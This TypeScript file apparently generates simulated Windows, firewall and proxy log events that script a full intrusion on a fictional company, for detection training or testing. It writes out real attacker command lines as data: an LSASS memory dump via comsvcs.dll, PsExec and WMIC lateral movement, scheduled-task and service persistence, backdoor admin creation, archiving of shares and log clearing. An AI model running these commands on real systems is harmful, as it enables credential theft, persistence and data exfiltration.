import { hostFor, type SampleHost } from "../company.ts";
import type { SimulatedEvent } from "../event.ts";
import {
  addedToAdministrators,
  auditLogCleared,
  fileCreated,
  logon,
  logonFailed,
  processAccess,
  serviceInstalled,
  userCreated,
} from "../windows-log.ts";
import { atWorkstation, type World } from "../world.ts";
import { ATTACKER, admin, CMD, fileServer, onFileServer, SYSTEM32, victim } from "./cast.ts";

export function dumpCredentials(world: World, startMs: number): SimulatedEvent[] {
  const on = { ...atWorkstation(victim()), user: "NT AUTHORITY\\SYSTEM" };
  const image = `${SYSTEM32}\\rundll32.exe`;
  const file = "C:\\Windows\\Temp\\wct4A1.tmp";
  return [
    world.process(on, startMs, {
      image,
      commandLine: `rundll32.exe ${SYSTEM32}\\comsvcs.dll, MiniDump 712 ${file} full`,
      parentImage: CMD,
      original: "RUNDLL32.EXE",
    }),
    processAccess(world, on, startMs + 60, {
      source: image,
      target: `${SYSTEM32}\\lsass.exe`,
      access: "0x1fffff",
      trace: `${SYSTEM32}\\ntdll.dll+9d584|${SYSTEM32}\\comsvcs.dll+23a01`,
    }),
    fileCreated(world, on, startMs + 400, { image, file }),
  ];
}

export function lookAround(world: World, startMs: number): SimulatedEvent[] {
  const commands = [
    ["whoami.exe", "whoami /all"],
    ["net.exe", 'net group "Domain Admins" /domain'],
    ["nltest.exe", "nltest /dclist:ad.minato-seiki.example"],
    ["net.exe", "net view \\\\hq-fs01 /all"],
  ] as const;
  const asked = commands.map(([name, commandLine], index) =>
    world.process(atWorkstation(victim()), startMs + index * 11_000, {
      image: `${SYSTEM32}\\${name}`,
      commandLine,
      parentImage: CMD,
    }),
  );
  const knocks = [hostFor("hq", "domain-controller"), hostFor("hq", "linux"), hostFor("hq", "web")].map(
    (server, index) =>
      world.firewall("osaka", startMs + 60_000 + index * 900, {
        fromIp: victim().ip,
        toIp: server.ip,
        toPort: index === 0 ? 3389 : 22,
        isAllowed: false,
        isOutbound: true,
      }),
  );
  return [...asked, ...knocks];
}

export function moveToFileServer(world: World, startMs: number): SimulatedEvent[] {
  const target: SampleHost = fileServer();
  const stolen = { account: admin().account, type: 3, ip: victim().ip, from: victim().workstation.toUpperCase() };
  const way = { fromIp: victim().ip, toIp: target.ip, toPort: 445, isAllowed: true, isOutbound: true };
  const system = { ...onFileServer(), user: "NT AUTHORITY\\SYSTEM" };
  return [
    logonFailed(world, onFileServer(), startMs, { ...stolen, account: "Administrator" }),
    world.firewall("osaka", startMs + 5000, way),
    logon(world, onFileServer(), startMs + 5200, stolen),
    serviceInstalled(world, onFileServer(), startMs + 6000, { name: "PSEXESVC", path: "%SystemRoot%\\PSEXESVC.exe" }),
    world.process(system, startMs + 7000, {
      image: CMD,
      commandLine: "cmd.exe /c hostname & whoami",
      parentImage: "C:\\Windows\\PSEXESVC.exe",
    }),
    world.process(atWorkstation(victim()), startMs + 40_000, {
      image: `${SYSTEM32}\\wbem\\WMIC.exe`,
      commandLine: `wmic /node:hq-fs01 /user:MINATO\\${admin().account} process call create "cmd.exe /c net share"`,
      parentImage: CMD,
      original: "wmic.exe",
    }),
  ];
}

export function stayOnFileServer(world: World, startMs: number): SimulatedEvent[] {
  const on = onFileServer();
  const by = admin().account;
  return [
    fileCreated(world, on, startMs, { image: CMD, file: "C:\\ProgramData\\Oracle\\jupdate.exe" }),
    world.process(on, startMs + 2000, {
      image: `${SYSTEM32}\\schtasks.exe`,
      commandLine:
        'schtasks /create /tn "JavaUpdateCheck" /tr "C:\\ProgramData\\Oracle\\jupdate.exe" /sc minute /mo 30 /ru SYSTEM /f',
      parentImage: CMD,
    }),
    serviceInstalled(world, on, startMs + 20_000, {
      name: "JavaUpdSvc",
      path: "C:\\ProgramData\\Oracle\\jupdate.exe -k",
    }),
    world.process(on, startMs + 40_000, {
      image: `${SYSTEM32}\\net.exe`,
      commandLine: "net user svc_backup2 N0tARealPassw0rd /add",
      parentImage: CMD,
    }),
    userCreated(world, on, startMs + 40_300, by, "svc_backup2"),
    addedToAdministrators(world, on, startMs + 44_000, by),
  ];
}

export function collect(world: World, startMs: number): SimulatedEvent[] {
  return [
    world.process(onFileServer(), startMs, {
      image: "C:\\ProgramData\\Oracle\\7z.exe",
      commandLine: "7z.exe a -mhe=on -pQ9x2vT7 -v500m C:\\ProgramData\\Oracle\\d.7z D:\\share\\図面 D:\\share\\見積",
      parentImage: CMD,
    }),
    fileCreated(world, onFileServer(), startMs + 240_000, {
      image: "C:\\ProgramData\\Oracle\\7z.exe",
      file: "C:\\ProgramData\\Oracle\\d.7z.001",
    }),
  ];
}

export function upload(world: World, startMs: number): SimulatedEvent[] {
  const { storageSite, storageIp } = ATTACKER;
  const proxy = hostFor("hq", "proxy");
  const parts = Array.from({ length: 4 }, (_, index) => startMs + index * 45_000).flatMap((atMs) => [
    world.proxy(admin(), atMs, {
      method: "CONNECT",
      url: `${storageSite}:443`,
      clientIp: fileServer().ip,
      user: "-",
      serverIp: storageIp,
      userAgent: "curl/8.9.1",
      bytes: 5120,
      elapsedMs: 41_000,
    }),
    world.firewall("hq", atMs + 41_200, {
      fromIp: proxy.ip,
      toIp: storageIp,
      toPort: 443,
      isAllowed: true,
      isOutbound: true,
      sentBytes: 524_288_000 + world.random.between(0, 4_000_000),
      receivedBytes: 5120,
      durationSeconds: 41,
    }),
  ]);
  const shell = {
    fromIp: fileServer().ip,
    toIp: ATTACKER.controlIp,
    toPort: 4444,
    isAllowed: true,
    isOutbound: true,
    sentBytes: 8200,
  };
  return [
    world.nameQuery({ unit: "hq", ip: fileServer().ip }, startMs - 500, storageSite),
    ...parts,
    world.firewall("hq", startMs + 200_000, shell),
  ];
}

export const coverUp = (world: World, startMs: number): SimulatedEvent[] => [
  auditLogCleared(world, onFileServer(), startMs, admin().account),
];
